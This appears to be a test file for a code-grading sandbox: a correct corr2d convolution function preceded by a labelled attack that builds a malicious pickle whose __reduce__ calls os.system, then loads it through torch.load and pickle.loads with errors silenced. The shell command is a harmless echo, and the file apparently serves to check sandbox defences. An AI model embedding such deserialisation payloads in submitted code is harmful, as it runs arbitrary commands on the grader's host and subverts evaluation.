# task: corr2d
# expect: pass
# layers: any
# attacks: loads a pickle that runs a shell
import io, os, pickle
import torch

class Evil:
    def __reduce__(self):
        return os.system, ("echo LEAKED a shell",)

for load in (lambda b: torch.load(io.BytesIO(b), weights_only=False), pickle.loads):
    try:
        load(pickle.dumps(Evil()))
    except Exception:
        pass

def corr2d(X, K):
    return (X.unfold(0, K.shape[0], 1).unfold(1, K.shape[1], 1) * K).sum((2, 3))
